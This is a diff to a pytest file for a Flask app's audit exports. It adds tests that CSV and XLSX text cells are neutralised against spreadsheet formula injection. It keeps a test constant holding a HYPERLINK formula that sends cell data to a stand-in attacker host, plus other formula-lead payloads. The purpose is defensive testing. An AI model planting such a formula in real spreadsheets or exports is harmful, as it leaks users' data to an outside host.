@@ -7,6 +7,7 @@ import csv
 import io
 import re
 
+import openpyxl
 import pytest
 from flask import Flask
 from flask.testing import FlaskClient
@@ -21,7 +22,7 @@ from domain.plans import Plan
 from projections import queries
 from tests.e2e.auth_helpers import DEMO_EMAILS, DEMO_PASSWORD, sign_in
 from tests.e2e.demo_years import Y1
-from web.audit_text import COLUMNS
+from web.audit_export import EXPORT_COLUMNS
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 AT_SUM = "@SUM(1)"
@@ -64,7 +65,7 @@ def client(app: Flask) -> FlaskClient:
 
 
 def _export(client: FlaskClient, plan_id: str) -> str:
-    reply = client.get(f"/plans/{plan_id}/audit.csv?lang=en")
+    reply = client.get(f"/plans/{plan_id}/audit.csv?lang=en&heads=names")
     assert reply.status_code == 200
     return reply.get_data().decode("utf-8-sig")
 
@@ -72,7 +73,7 @@ def _export(client: FlaskClient, plan_id: str) -> str:
 def test_no_text_cell_of_the_audit_csv_can_run_as_a_formula(client: FlaskClient, hostile: DemoPlan) -> None:
     rows = list(csv.reader(io.StringIO(_export(client, hostile.plan_id))))
     header, body = rows[0], rows[1:]
-    assert header == list(COLUMNS)
+    assert header == list(EXPORT_COLUMNS)
     cells = [cell for row in body for cell in row[1:]]  # every text column
     assert not [c for c in cells if c.startswith(FORMULA_LEADS)], "a cell a spreadsheet would run"
     for payload in (HYPERLINK, AT_SUM, PLUS, MINUS, TAB.strip()):  # labels are kept stripped
@@ -89,3 +90,26 @@ def test_numbers_in_the_audit_csv_stay_numbers(client: FlaskClient, hostile: Dem
     rows = list(csv.DictReader(io.StringIO(text)))
     positions = [int(r["position"]) for r in rows]
     assert positions == sorted(positions, reverse=True)
+
+
+def test_no_text_cell_of_the_audit_xlsx_can_run_as_a_formula(
+        client: FlaskClient, hostile: DemoPlan) -> None:
+    reply = client.get(f"/plans/{hostile.plan_id}/audit.xlsx?lang=en")
+    assert reply.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(reply.get_data())).worksheets[0]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert not [c.value for c in cells if c.data_type == "f"], "a formula in the workbook"
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if t.startswith(FORMULA_LEADS)]
+    for payload in (HYPERLINK, AT_SUM, PLUS, MINUS, TAB.strip()):
+        assert "'" + payload in texts, f"{payload!r} not exported (neutralised)"
+    positions = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    assert positions and all(isinstance(p, int) for p in positions)
+
+
+def test_the_swedish_audit_csv_neutralises_text_too(client: FlaskClient, hostile: DemoPlan) -> None:
+    reply = client.get(f"/plans/{hostile.plan_id}/audit.csv?lang=sv")
+    rows = list(csv.reader(io.StringIO(reply.get_data().decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row[1:]]
+    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
+    assert "'" + HYPERLINK in cells and "'" + MINUS in cells
